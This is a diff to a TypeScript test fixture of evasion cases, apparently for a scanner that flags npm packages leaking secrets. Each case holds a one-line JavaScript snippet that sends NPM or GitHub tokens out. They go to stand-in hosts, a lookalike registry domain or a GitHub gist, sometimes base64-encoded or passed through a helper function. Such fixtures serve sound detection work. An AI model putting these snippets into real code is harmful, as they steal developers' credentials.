@@ -25,7 +25,7 @@ export const SECRETS: readonly Evasion[] = [
   ['in the address', `require("https").get("${TO}?" + process.env.NPM_TOKEN + process.env.GH_TOKEN)`, 'data-leak critical'],
   ['encoded', `require("https").request({ host: "c.example.invalid" }).end(Buffer.from(process.env.NPM_TOKEN + "|" + process.env.GH_TOKEN).toString("base64"))`, 'data-leak critical'],
   ['one key, host by options', 'const r = require("https").request({ hostname: "c.example.invalid", method: "POST" }); r.write(process.env.NPM_TOKEN); r.end()', 'data-leak high'],
-  ['one key, host that looks like its own', 'fetch("https://registry.npmjs.org.example.invalid/x", { headers: { authorization: process.env.NPM_TOKEN } })', 'data-leak high'],
+  ['one key, host that looks like its own', 'fetch("https://npmjs.org.example.invalid/x", { headers: { authorization: process.env.NPM_TOKEN } })', 'data-leak high'],
   ['two keys to one of their owners', 'fetch("https://api.github.com/gists", { method: "POST", headers: { authorization: process.env.GITHUB_TOKEN }, body: process.env.NPM_TOKEN })', 'data-leak high'],
   ['two keys, host unknown', 'fetch(u, { body: process.env.NPM_TOKEN + process.env.GH_TOKEN })', 'data-leak high'],
   ['by a function that sends', `const send = (d) => fetch("${TO}", { body: d }); send(JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.GH_TOKEN }))`, 'data-leak critical'],
